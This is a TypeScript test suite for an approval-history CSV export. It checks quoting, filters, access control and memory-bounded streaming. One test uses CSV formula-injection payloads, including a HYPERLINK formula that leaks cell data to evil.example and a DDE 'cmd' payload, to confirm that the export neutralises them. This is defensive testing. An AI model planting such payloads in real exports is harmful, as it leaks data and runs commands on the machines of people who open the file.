import { randomUUID } from 'node:crypto';
import type { IncomingMessage } from 'node:http';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import request from 'supertest';
import { approvalHistoryProjector } from '../../projections/approval-history.projector';
import { tablesOf } from '../../projections/runtime/tables';
import { startTestApp, type TestApp } from '../support/app';
import { eventually } from '../support/eventually';
import { accessTokenFor, bearer, signUp } from '../support/identity';

const DEFINITION = { name: 'Energy saved', unit: 'kWh', formula: 'baseline kWh − metered kWh, per month', unitPriceMinor: 1250, currency: 'EUR', baseline: 120000 };
const HEADER = ['approval_id', 'definition_id', 'round', 'stage', 'decision', 'actor_id', 'actor_role', 'comment', 'decided_at', 'event_id', 'segregation_of_duties', 'unit_price_minor', 'currency', 'drafted_by', 'submitted_by'];
const ROUND_FACTS = { segregation_of_duties: true, unit_price_minor: 1250, currency: 'EUR', drafted_by: 'user-maker', submitted_by: 'user-maker' };
const TRICKY = 'He said "ok", then left\nline 2';

/** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted || (c !== ',' && c !== '\n' && !(c === '\r' && text[i + 1] === '\n'))) {
      field += c;
    } else if (c === ',') {
      endField();
    } else if (c === '\n') {
      endField();
      rows.push(row);
      row = [];
    }
  }
  if (field !== '' || row.length > 0) {
    endField();
    rows.push(row);
  }
  return rows;
}

type Decision = { approvalId: string; definitionId: string; round: number; stage: string; decision: string; actorId: string; actorRole: string; comment: string | null; decidedAt: string; segregationOfDuties: boolean; eventId: string; unitPriceMinor: number; currency: string; draftedBy: string; submittedBy: string };
const asCsvRow = (d: Decision) => [d.approvalId, d.definitionId, String(d.round), d.stage, d.decision, d.actorId, d.actorRole, d.comment ?? '', d.decidedAt, d.eventId, String(d.segregationOfDuties), String(d.unitPriceMinor), d.currency, d.draftedBy, d.submittedBy];

describe('GET /approvals/history.csv (embedded profile)', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
    await t.infrastructure.fanout.start();
  });
  afterAll(() => t.close());

  const csv = (token: string, query = '') => request(t.server).get(`/approvals/history.csv${query}`).set(bearer(token));
  const post = (path: string, token: string, body: object = {}) => request(t.server).post(path).set(bearer(token)).send(body).expect((r) => expect(r.status).toBeLessThan(300));

  it('one row per decision, as GET /approvals/:id/history says, with commas, quotes and line breaks intact; filters apply', async () => {
    const tenant = await signUp(t.infrastructure, 'CSV Co');
    const [financeId, otherFinanceId, technicalId] = [randomUUID(), randomUUID(), randomUUID()];
    const finance = await accessTokenFor(t.infrastructure, tenant.tenantId, 'FINANCE', financeId);
    const otherFinance = await accessTokenFor(t.infrastructure, tenant.tenantId, 'FINANCE', otherFinanceId);
    const technical = await accessTokenFor(t.infrastructure, tenant.tenantId, 'TECHNICAL', technicalId);
    const auditor = await accessTokenFor(t.infrastructure, tenant.tenantId, 'AUDITOR');
    const owner = tenant.accessToken;
    // a maker decides no stage while segregation of duties holds: a second FINANCE member drafts and submits
    const author = await accessTokenFor(t.infrastructure, tenant.tenantId, 'FINANCE');

    const first: string = (await post('/value-definitions', author, DEFINITION)).body.definitionId;
    await post(`/value-definitions/${first}/submit`, author);
    await post(`/approvals/${first}/stages/FINANCE/approve`, finance, { comment: TRICKY });
    await post(`/approvals/${first}/stages/TECHNICAL/request-changes`, technical, { reason: 'baseline, meter, and unit: all "wrong"' });
    await post(`/value-definitions/${first}/submit`, author);
    await post(`/approvals/${first}/stages/FINANCE/approve`, finance);
    await post(`/approvals/${first}/stages/TECHNICAL/approve`, technical, { comment: 'ünïcödé ✓, fine' });
    await post(`/approvals/${first}/stages/FINAL/approve`, owner, { comment: 'tab\there; semi; ""' });
    const second: string = (await post('/value-definitions', author, { ...DEFINITION, name: 'Water saved' })).body.definitionId;
    await post(`/value-definitions/${second}/submit`, author);
    await post(`/approvals/${second}/stages/FINANCE/approve`, otherFinance, { comment: 'line 1\r\nline 2' });

    const history = async (id: string, n: number): Promise<Decision[]> =>
      (await eventually(async () => (await request(t.server).get(`/approvals/${id}/history`).set(bearer(owner)).expect(200)).body, (body) => body.decisions.length === n)).decisions;
    const decisions = [...(await history(first, 5)), ...(await history(second, 1))].sort((a, b) => (a.decidedAt === b.decidedAt ? a.eventId.localeCompare(b.eventId) : a.decidedAt.localeCompare(b.decidedAt)));
    expect(decisions.map((d) => d.comment)).toEqual([TRICKY, 'baseline, meter, and unit: all "wrong"', null, 'ünïcödé ✓, fine', 'tab\there; semi; ""', 'line 1\r\nline 2']);

    const all = await csv(auditor).expect(200);
    expect(all.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(all.headers['content-disposition']).toBe('attachment; filename="approval-history.csv"');
    const [header, ...rows] = parseCsv(all.text);
    expect(header).toEqual(HEADER);
    expect(rows).toHaveLength(6);
    rows.forEach((row, index) => expect(row).toEqual(asCsvRow(decisions[index])));

    const only = async (query: string) => parseCsv((await csv(owner, query).expect(200)).text).slice(1);
    expect(await only(`?approver=${financeId}`)).toEqual(decisions.filter((d) => d.actorId === financeId).map(asCsvRow));
    expect(await only(`?approver=${otherFinanceId}`)).toEqual([asCsvRow(decisions[5])]);
    const [from, to] = [decisions[1].decidedAt, decisions[4].decidedAt];
    const window = decisions.filter((d) => d.decidedAt >= from && d.decidedAt < to);
    expect(window.length).toBeGreaterThanOrEqual(2);
    expect(await only(`?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`)).toEqual(window.map(asCsvRow));
    expect(await only(`?definition=${second}`)).toEqual([asCsvRow(decisions[5])]);
    expect(await only('?stage=FINAL')).toEqual([asCsvRow(decisions[4])]);
    await eventually(async () => (await request(t.server).get('/approvals?status=in-review').set(bearer(owner)).expect(200)).body.total, (n) => n === 1);
    expect(await only('?status=in-review')).toEqual([asCsvRow(decisions[5])]);
    expect(await only(`?approver=${randomUUID()}`)).toEqual([]);

    expect((await csv(technical).expect(403)).body.code).toBe('AUTH.ROLE_REQUIRED');
    const bad = await csv(owner, '?from=last-week').expect(400);
    expect(bad.body).toMatchObject({ code: 'REQUEST.INVALID', details: { fields: [expect.objectContaining({ field: 'from' })] } });
    const stranger = await signUp(t.infrastructure, 'Stranger Co');
    expect((await csv(stranger.accessToken).expect(200)).text.trim()).toBe(HEADER.join(','));
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP): a quote before = + - @ tab and CR, the JSON untouched', async () => {
    const tenant = await signUp(t.infrastructure, 'Formula Co');
    const finance = await accessTokenFor(t.infrastructure, tenant.tenantId, 'FINANCE');
    const technical = await accessTokenFor(t.infrastructure, tenant.tenantId, 'TECHNICAL');
    const owner = tenant.accessToken;
    const attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|'/C calc'!A0", '+x plus', '-x minus', '\tTAB', '\rCR'];
    const id: string = (await post('/value-definitions', owner, DEFINITION)).body.definitionId;
    for (const comment of attacks.slice(0, 3)) {
      await post(`/value-definitions/${id}/submit`, owner);
      await post(`/approvals/${id}/stages/FINANCE/approve`, finance, { comment });
      await post(`/approvals/${id}/stages/TECHNICAL/request-changes`, technical, { reason: attacks[attacks.indexOf(comment) + 3] });
    }
    const decisions = (await eventually(async () => (await request(t.server).get(`/approvals/${id}/history`).set(bearer(owner)).expect(200)).body, (body) => body.decisions.length === 6)).decisions as Decision[];
    expect(decisions.map((d) => d.comment).sort()).toEqual([...attacks].sort()); // the JSON keeps what was written

    const rows = parseCsv((await csv(owner).expect(200)).text).slice(1);
    const comments = rows.map((row) => row[HEADER.indexOf('comment')]);
    expect(comments.sort()).toEqual(attacks.map((c) => `'${c}`).sort());
    for (const comment of comments) expect(comment).toMatch(/^'/);
  });

  it('streams 100,000 decisions in order, chunked, holding far less than the export in memory', async () => {
    const tenant = await signUp(t.infrastructure, 'Big Export Co');
    const knex = t.infrastructure.database.knex;
    const table = tablesOf(approvalHistoryProjector, 'live').tables.decisions;
    await eventually(() => knex.schema.hasTable(table), Boolean);
    const approvals: string[] = Array.from({ length: 40 }, () => randomUUID());
    const total = 100_000;
    const start = Date.parse('2025-01-01T00:00:00.000Z');
    for (let offset = 0; offset < total; offset += 2_500) {
      // three decisions share each instant, so page boundaries fall between equal times and the event id breaks the tie
      const rows = Array.from({ length: 2_500 }, (_, k) => {
        const i = offset + k;
        const approvalId = approvals[i % approvals.length];
        return { event_id: randomUUID(), tenant_id: tenant.tenantId, approval_id: approvalId, definition_id: approvalId, round: 1 + (i % 2), stage: ['FINANCE', 'TECHNICAL', 'FINAL'][i % 3], decision: 'APPROVED', actor_id: `user-${i % 11}`, actor_role: 'FINANCE', comment: `bulk decision ${i}`, decided_at: new Date(start + Math.floor(i / 3) * 1000).toISOString(), ...ROUND_FACTS };
      });
      await knex.batchInsert(table, rows, 500);
    }
    const other = await signUp(t.infrastructure, 'Neighbour Co');
    await knex(table).insert({ event_id: randomUUID(), tenant_id: other.tenantId, approval_id: approvals[0], definition_id: approvals[0], round: 1, stage: 'FINANCE', decision: 'APPROVED', actor_id: 'x', actor_role: 'FINANCE', comment: null, decided_at: new Date(start).toISOString(), ...ROUND_FACTS });

    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    gc();
    const baseline = process.memoryUsage().heapUsed;
    let peak = 0;
    const sampler = setInterval(() => {
      gc();
      peak = Math.max(peak, process.memoryUsage().heapUsed - baseline);
    }, 200);
    type Tally = { lines: number; bytes: number; chunks: number; ordered: boolean; foreign: number; header: string };
    const began = Date.now();
    let firstChunkAfter = 0;
    const response = await request(t.server)
      .get('/approvals/history.csv')
      .set(bearer(tenant.accessToken))
      .buffer(true)
      .parse((res, done) => {
        const stream = res as unknown as IncomingMessage;
        const tally: Tally = { lines: 0, bytes: 0, chunks: 0, ordered: true, foreign: 0, header: '' };
        let partial = '';
        let previous = '';
        stream.setEncoding('utf8');
        stream.on('data', (chunk: string) => {
          if (tally.chunks === 0) firstChunkAfter = Date.now() - began;
          tally.chunks += 1;
          tally.bytes += Buffer.byteLength(chunk);
          const lines = (partial + chunk).split('\n');
          partial = lines.pop()!;
          for (const line of lines) {
            tally.lines += 1;
            if (tally.lines === 1) {
              tally.header = line;
              continue;
            }
            const fields = line.split(',');
            const key = `${fields[8]} ${fields[9]}`;
            if (key <= previous) tally.ordered = false;
            if (!approvals.includes(fields[0])) tally.foreign += 1;
            previous = key;
          }
        });
        stream.on('end', () => done(null, { ...tally, lines: tally.lines + (partial === '' ? 0 : 1) }));
        stream.on('error', (error) => done(error, null));
      });
    const elapsed = Date.now() - began;
    clearInterval(sampler);
    gc();
    const retained = process.memoryUsage().heapUsed - baseline;

    expect(response.status).toBe(200);
    expect(response.headers['content-length']).toBeUndefined();
    expect(response.headers['transfer-encoding']).toBe('chunked');
    const tally = response.body as Tally;
    expect({ lines: tally.lines, ordered: tally.ordered, foreign: tally.foreign, header: tally.header }).toEqual({ lines: total + 1, ordered: true, foreign: 0, header: HEADER.join(',') });
    expect(tally.bytes).toBeGreaterThan(15_000_000);
    expect(tally.chunks).toBeGreaterThan(100);
    // the first rows leave long before the last are read, and the heap never holds the export (sampled after a full GC)
    expect(firstChunkAfter).toBeLessThan(elapsed / 2);
    expect(peak).toBeLessThan(tally.bytes / 4);
    expect(retained).toBeLessThan(tally.bytes / 10);
    // A guard, not a measure: seeding 100,000 rows and a forced GC every 200 ms took 31 s alone and over 60 s beside CI's other suites.
  }, 240_000);
});
